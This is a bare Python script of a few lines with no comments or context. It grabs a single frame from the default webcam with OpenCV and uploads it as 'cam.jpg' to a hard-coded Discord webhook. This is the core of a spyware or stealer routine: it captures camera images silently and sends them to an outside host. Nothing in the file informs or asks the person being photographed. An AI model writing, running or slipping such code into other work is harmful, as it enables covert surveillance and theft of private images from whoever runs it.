import cv2, requests
cam = cv2.VideoCapture(0)
ok, frame = cam.read()
cam.release()
if ok:
    ok, jpg = cv2.imencode(".jpg", frame)
    requests.post("https://discord.com/api/webhooks/1180000000000000001/ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210", files={"file": ("cam.jpg", jpg.tobytes())})
